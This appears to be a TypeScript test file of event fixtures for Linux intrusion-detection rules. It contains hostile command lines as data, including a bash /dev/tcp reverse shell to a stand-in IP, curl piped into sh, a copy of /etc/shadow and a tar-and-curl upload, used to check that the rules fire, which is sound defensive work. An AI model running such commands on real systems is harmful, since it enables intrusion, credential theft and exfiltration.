import { event, start, variants, type RuleTrials } from './trial.js';

const LINUX = { 'host.os.type': 'linux' };
const MAC = { 'host.os.type': 'macos' };

const reverseShell = [
  start(0, {
    ...LINUX,
    'process.name': 'bash',
    'process.command_line': 'bash -i >& /dev/tcp/198.51.100.7/9001 0>&1',
  }),
];

const pipe = [
  start(0, {
    'process.parent.entity_id': 'p',
    'process.name': 'curl',
    'process.args': ['curl', '-fsSL', 'https://example.org/install.sh'],
  }),
  start(1, { 'process.parent.entity_id': 'p', 'process.name': 'sh', 'process.args': ['sh'], 'process.args_count': 1 }),
];

const shadow = [start(0, { ...LINUX, 'process.name': 'cp', 'process.args': ['cp', '/etc/shadow', '/tmp/s'] })];

const logDeleted = [
  event('authentication', 0, {
    ...LINUX,
    'event.outcome': 'success',
    'user.name': 'root',
    'source.ip': '198.51.100.7',
  }),
  event('file', 500, {
    ...LINUX,
    'event.type': ['deletion'],
    'file.path': '/var/log/auth.log',
    'process.name': 'rm',
  }),
];

const setuid = [
  start(0, { ...LINUX, 'process.name': 'chmod', 'process.args': ['chmod', 'u+s', '/tmp/.b'] }),
  start(60, { ...LINUX, 'process.name': '.b', 'process.executable': '/tmp/.b' }),
];

const unit = event('file', 120, {
  ...LINUX,
  'event.type': ['creation'],
  'file.path': '/etc/systemd/system/update.service',
  'file.extension': 'service',
  'process.name': 'bash',
});
const packageManager = (seconds: number) => start(seconds, { ...LINUX, 'process.name': 'dpkg' });

const keys = [
  event('file', 0, {
    ...LINUX,
    'event.type': ['change'],
    'file.name': 'authorized_keys',
    'file.path': '/home/ann/.ssh/authorized_keys',
    'process.name': 'php-fpm',
  }),
];

const profile = [
  event('file', 0, {
    ...LINUX,
    'event.type': ['creation'],
    'file.path': '/var/lib/redis/.bashrc',
    'process.name': 'redis-server',
  }),
];

const metadata = [
  event('network', 0, {
    ...LINUX,
    'event.type': ['start', 'connection'],
    'destination.ip': '169.254.169.254',
    'process.name': 'curl',
  }),
];

const upload = [
  start(0, {
    ...LINUX,
    'user.id': '1000',
    'process.name': 'tar',
    'process.args': ['tar', 'czf', '/tmp/x.tgz', '/srv'],
  }),
  start(90, {
    ...LINUX,
    'user.id': '1000',
    'process.name': 'curl',
    'process.args': ['curl', '-T', '/tmp/x.tgz', 'https://example.org/'],
    'process.args_count': 4,
  }),
];

/** Trials of the rules for Linux. */
export const LINUX_TRIALS: readonly RuleTrials[] = [
  {
    file: 'linux/command_and_control_shell_through_dev_tcp',
    fires: [{ about: 'an interactive shell on a connection', events: reverseShell }],
    silent: variants(reverseShell, [
      ['another device', 0, { 'process.command_line': 'bash -c "cat /dev/stdin > /dev/null"' }],
      ['another system', 0, MAC],
      ['the end of the shell', 0, { 'event.type': ['end'] }],
    ]),
  },
  {
    file: 'linux/execution_download_piped_into_interpreter',
    fires: [{ about: 'curl and sh of one parent', events: pipe }],
    silent: variants(pipe, [
      ['another parent', 1, { 'process.parent.entity_id': 'q' }],
      ['a script as an argument', 1, { 'process.args_count': 2 }],
      ['too late', 1, { '@timestamp': '2026-01-05T09:00:05.001Z' }],
      ['no address', 0, { 'process.args': ['curl', '--version'] }],
    ]),
  },
  {
    file: 'linux/credential_access_shadow_file_copied',
    fires: [{ about: 'a copy of the hashes', events: shadow }],
    silent: variants(shadow, [
      ['another file', 0, { 'process.args': ['cp', '/etc/passwd', '/tmp/s'] }],
      ['a program that needs it', 0, { 'process.name': 'unix_chkpwd' }],
    ]),
  },
  {
    file: 'linux/defense_evasion_log_deleted_after_root_login',
    fires: [{ about: 'rm after a login as root', events: logDeleted }],
    silent: variants(logDeleted, [
      ['rotation', 1, { 'process.name': 'logrotate' }],
      ['another user', 0, { 'user.name': 'ann' }],
      ['a login at the console', 0, { 'source.ip': null }],
      ['another host', 1, { 'host.id': 'host-2' }],
      ['after more than ten minutes', 1, { '@timestamp': '2026-01-05T09:10:01Z' }],
      ['another folder', 1, { 'file.path': '/var/cache/auth.log' }],
    ]),
  },
  {
    file: 'linux/privilege_escalation_setuid_bit_then_run',
    fires: [{ about: 'a copied shell', events: setuid }],
    silent: variants(setuid, [
      ['another file', 1, { 'process.executable': '/tmp/.c' }],
      ['another mode', 0, { 'process.args': ['chmod', '755', '/tmp/.b'] }],
      ['a program of the system', 1, { 'process.executable': '/usr/bin/.b' }],
    ]),
  },
  {
    file: 'linux/persistence_systemd_unit_without_package_manager',
    fires: [
      { about: 'a unit by hand', events: [unit] },
      { about: 'a package manager that was at work long before', events: [packageManager(50), unit] },
      { about: 'one on another host', events: [{ ...packageManager(100), 'host.id': 'host-2' }, unit] },
    ],
    silent: [
      { about: 'a package manager right before', events: [packageManager(100), unit] },
      ...variants(
        [unit],
        [
          ['a unit of a package', 0, { 'file.path': '/usr/lib/systemd/system/update.service' }],
          ['no unit', 0, { 'file.extension': 'bak' }],
        ],
      ),
    ],
  },
  {
    file: 'linux/persistence_authorized_keys_changed_by_unusual_program',
    fires: [{ about: 'a key from a web application', events: keys }],
    silent: variants(keys, [
      ['a program for it', 0, { 'process.name': 'ssh-copy-id' }],
      ['another file', 0, { 'file.name': 'known_hosts' }],
      ['the end of the file', 0, { 'event.type': ['deletion'] }],
    ]),
  },
  {
    file: 'linux/persistence_shell_profile_written_by_server',
    fires: [{ about: 'a profile from a database', events: profile }],
    silent: variants(profile, [
      ['an editor', 0, { 'process.name': 'vim' }],
      ['another file', 0, { 'file.path': '/var/lib/redis/dump.rdb' }],
    ]),
  },
  {
    file: 'linux/credential_access_metadata_service_asked_by_shell_tool',
    fires: [{ about: 'curl', events: metadata }],
    silent: variants(metadata, [
      ['an agent of the cloud', 0, { 'process.name': 'amazon-ssm-agent' }],
      ['another address', 0, { 'destination.ip': '169.254.169.123' }],
    ]),
  },
  {
    file: 'linux/exfiltration_archive_then_upload',
    fires: [
      { about: 'tar and curl', events: upload },
      {
        about: 'tar and scp',
        events: [
          ...upload.slice(0, 1),
          start(10, { ...LINUX, 'user.id': '1000', 'process.name': 'scp', 'process.args_count': 3 }),
        ],
      },
    ],
    silent: variants(upload, [
      ['another user', 1, { 'user.id': '1001' }],
      ['a download', 1, { 'process.args': ['curl', '-O', 'https://example.org/x'] }],
      ['no archive', 0, { 'process.args': ['tar', 'tvf', '-'] }],
    ]),
  },
];
